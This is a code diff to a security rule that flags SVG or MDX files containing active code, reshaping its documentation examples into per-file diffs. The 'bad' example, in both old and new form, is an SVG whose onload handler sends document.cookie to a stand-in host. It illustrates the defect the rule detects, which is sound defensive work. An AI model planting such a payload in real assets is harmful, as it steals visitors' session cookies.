@@ -9,8 +9,19 @@ export const activeContent: Rule = {
   summary: 'A picture or document runs code',
   docs: {
     why: 'An SVG file opened by itself is a page: its scripts run with the rights of the site that serves it. In a document of MDX, code runs where it is built and read.',
-    bad: '<svg onload="fetch(\'//x.example/\' + document.cookie)">',
-    good: '<svg viewBox="0 0 24 24"><path d="…"/></svg>',
+    bad: {
+      files: {
+        'assets/logo.svg': [
+          ' <?xml version="1.0"?>',
+          '+<svg onload="fetch(\'//x.example/\' + document.cookie)"></svg>',
+        ],
+      },
+    },
+    good: {
+      files: {
+        'assets/logo.svg': [' <?xml version="1.0"?>', '+<svg viewBox="0 0 24 24"><path d="M0 0h24v24H0z"/></svg>'],
+      },
+    },
   },
   suppressible: true,
   check(context) {
